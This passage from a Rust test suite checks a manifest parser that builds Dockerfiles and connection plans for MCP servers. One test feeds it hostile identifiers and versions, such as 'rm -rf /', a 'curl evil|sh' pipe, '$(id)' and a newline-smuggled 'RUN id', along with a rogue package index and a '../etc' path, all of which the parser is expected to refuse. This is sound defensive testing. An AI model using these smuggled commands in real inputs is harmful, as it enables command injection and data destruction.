            Transport::Http {
                port: 8080,
                path: "/mcp".into()
            }
        );
        assert_eq!(plan.dockerfile(&PackageBuildSettings::default()), None);
    }

    #[test]
    fn an_npm_package_installs_globally_at_its_version() {
        let doc = manifest(json!({"packages": [
            {"registryType": "npm", "identifier": "@modelcontextprotocol/server-everything", "version": "~2025.9.25",
             "transport": {"type": "stdio"}}
        ]}));
        let err = parse(doc.clone())
            .unwrap()
            .plan(PackageChoice::Preferred)
            .unwrap_err();
        assert!(
            err.to_string().contains("not one exact npm version"),
            "{err}"
        );
        let mut ok = doc;
        ok["packages"][0]["version"] = json!("2.0.1");
        let plan = parse(ok).unwrap().plan(PackageChoice::Package(0)).unwrap();
        assert_eq!(
            plan.transport,
            Transport::Stdio {
                command: vec!["server-everything".into()]
            }
        );
        let build = PackageBuildSettings {
            node_base_image: "node:22-slim".into(),
            ..Default::default()
        };
        let dockerfile = plan.dockerfile(&build).unwrap();
        assert!(dockerfile.contains("FROM node:22-slim\n"));
        assert!(dockerfile.contains("'@modelcontextprotocol/server-everything@2.0.1'"));
    }

    #[test]
    fn a_remote_is_probed_by_its_https_url_with_header_settings() {
        let doc = manifest(json!({"remotes": [{
            "type": "streamable-http", "url": "https://mcp.example.com/v1/mcp",
            "headers": [{"name": "X-Api-Key", "isSecret": true, "isRequired": true}]
        }]}));
        let plan = parse(doc).unwrap().plan(PackageChoice::Preferred).unwrap();
        assert!(
            matches!(&plan.source, PackageSource::Remote { url } if url == "https://mcp.example.com/v1/mcp")
        );
        assert_eq!(plan.settings[0].name.as_str(), "X_API_KEY");
        assert!(plan.settings[0].secret);
    }

    #[test]
    fn schema_versions_outside_the_read_set_are_refused_by_name() {
        for schema in [
            "https://static.modelcontextprotocol.io/schemas/2025-07-09/server.schema.json",
            "https://static.modelcontextprotocol.io/schemas/2030-01-01/server.schema.json",
            "https://evil.example/schemas/2025-12-11/server.schema.json",
        ] {
            let mut doc = manifest(pypi_fetch());
            doc["$schema"] = json!(schema);
            let err = parse(doc).unwrap_err().to_string();
            assert!(
                err.contains("not a schema version this host reads"),
                "{err}"
            );
        }
        let mut doc = manifest(pypi_fetch());
        doc.as_object_mut().unwrap().remove("$schema");
        assert!(parse(doc)
            .unwrap_err()
            .to_string()
            .contains("$schema is required"));
        for version in SUPPORTED_SCHEMA_VERSIONS {
            let mut doc = manifest(pypi_fetch());
            doc["$schema"] = json!(format!("{SCHEMA_URL_PREFIX}{version}{SCHEMA_URL_SUFFIX}"));
            assert_eq!(&parse(doc).unwrap().schema_version, version);
        }
    }

    #[test]
    fn hostile_identifiers_and_versions_never_reach_a_dockerfile() {
        let cases = [
            (
                "pypi",
                "mcp-server-fetch; rm -rf /",
                "1.0.0",
                "not a PyPI project name",
            ),
            (
                "pypi",
                "mcp-server-fetch",
                "1.0.0' && curl evil|sh '",
                "not one exact PyPI version",
            ),
            (
                "pypi",
                "--index-url=https://evil",
                "1.0.0",
                "not a PyPI project name",
            ),
            ("pypi", "mcp", ">=1.0", "not one exact PyPI version"),
            ("npm", "evil$(id)", "1.0.0", "not an npm package name"),
            ("npm", "left-pad", "^1.0.0", "not one exact npm version"),
            (
                "oci",
                "ghcr.io/example/weather",
                "",
                "image reference with a tag or digest",
            ),
            (
                "oci",
                "ghcr.io/example/weather:1.0\nRUN id",
                "",
                "image reference with a tag or digest",
            ),
            ("nuget", "Weather", "1.0.0", "not run by this host"),
            (
                "mcpb",
                "https://example.com/x.mcpb",
                "",
                "not run by this host",
            ),
        ];
        for (kind, identifier, version, expected) in cases {
            let doc = manifest(json!({"packages": [{
                "registryType": kind, "identifier": identifier, "version": version,
                "transport": {"type": "stdio"}, "packageArguments": [{"type": "positional", "value": "serve"}]
            }]}));
            let err = parse(doc)
                .unwrap()
                .plan(PackageChoice::Package(0))
                .unwrap_err()
                .to_string();
            assert!(
                err.contains(expected),
                "{kind} {identifier:?} {version:?}: {err}"
            );
            assert!(err.len() < 400, "errors stay short: {err}");
        }
    }

    #[test]
    fn the_package_index_is_never_the_publishers() {
        let mut doc = manifest(pypi_fetch());
        doc["packages"][0]["registryBaseUrl"] = json!("https://pypi.evil.example");
        let err = parse(doc)
            .unwrap()
            .plan(PackageChoice::Preferred)
            .unwrap_err()
            .to_string();
        assert!(err.contains("not the public pypi registry"), "{err}");
        let mut doc = manifest(pypi_fetch());
        doc["packages"][0]["registryBaseUrl"] = json!("https://pypi.org");
        assert!(parse(doc).unwrap().plan(PackageChoice::Preferred).is_ok());
    }

    #[test]
    fn what_this_host_cannot_run_is_refused_clearly() {
        let sse = manifest(json!({"remotes": [{"type": "sse", "url": "https://x.example/sse"}]}));
        assert!(parse(sse)
            .unwrap()
            .plan(PackageChoice::Preferred)
            .unwrap_err()
            .to_string()
            .contains("deprecated"));
        let template = manifest(
            json!({"remotes": [{"type": "streamable-http", "url": "https://{tenant}.example/mcp"}]}),
        );
        assert!(parse(template)
            .unwrap()
            .plan(PackageChoice::Preferred)
            .unwrap_err()
            .to_string()
            .contains("template"));
        let plain_http = manifest(
            json!({"remotes": [{"type": "streamable-http", "url": "http://x.example/mcp"}]}),
        );
        assert!(parse(plain_http)
            .unwrap()
            .plan(PackageChoice::Preferred)
            .is_err());
        let needs_arg = manifest(json!({"packages": [{
            "registryType": "pypi", "identifier": "srv", "version": "1.0", "transport": {"type": "stdio"},
            "packageArguments": [{"type": "positional", "valueHint": "directory", "isRequired": true}]
        }]}));
        assert!(parse(needs_arg)
            .unwrap()
            .plan(PackageChoice::Preferred)
            .unwrap_err()
            .to_string()
            .contains("needs a value at launch"));
        let public_http = manifest(json!({"packages": [{
            "registryType": "pypi", "identifier": "srv", "version": "1.0",
            "transport": {"type": "streamable-http", "url": "http://example.com:8080/mcp"}
        }]}));
        assert!(parse(public_http)
            .unwrap()
            .plan(PackageChoice::Preferred)
            .is_err());
        let nothing = manifest(json!({}));
        assert!(parse(nothing)
            .unwrap_err()
            .to_string()
            .contains("neither packages nor remotes"));
        assert!(parse(manifest(pypi_fetch()))
            .unwrap()
            .plan(PackageChoice::Package(3))
            .is_err());
    }

    #[test]
    fn names_descriptions_and_versions_follow_the_schema() {
        let mut doc = manifest(pypi_fetch());
        doc["name"] = json!("no-slash");
        assert!(parse(doc).is_err());
        let mut doc = manifest(pypi_fetch());
        doc["version"] = json!("^1.0.0");
        assert!(parse(doc).unwrap_err().to_string().contains("not a range"));
        let mut doc = manifest(pypi_fetch());
        doc["description"] = json!("x".repeat(MAX_DESCRIPTION_LEN + 1));
        assert!(parse(doc).is_err());
        let mut doc = manifest(pypi_fetch());
        doc["repository"] = json!({"url": "https://github.com/example/servers", "source": "github", "subfolder": "../etc"});
        assert!(parse(doc)
            .unwrap_err()
            .to_string()
            .contains("clean relative path"));
        let mut doc = manifest(pypi_fetch());
        doc["repository"] = json!({"url": "https://github.com/example/servers", "source": "github", "subfolder": "src/fetch/"});
        let m = parse(doc).unwrap();
        assert_eq!(m.repository.unwrap().1.as_deref(), Some("src/fetch"));
        assert!(ServerManifest::parse(&vec![b' '; MAX_SERVER_JSON_BYTES + 1]).is_err());
        assert!(ServerManifest::parse(b"[1]").is_err());
    }

    #[test]
    fn server_ids_come_from_the_name_after_the_slash() {
        assert_eq!(
            server_id_from_name("io.github.x/Weather_Server.v2")
                .unwrap()
                .as_str(),
            "weather-server-v2"
        );
        assert!(server_id_from_name("io.github.x/___").is_err());
    }
}
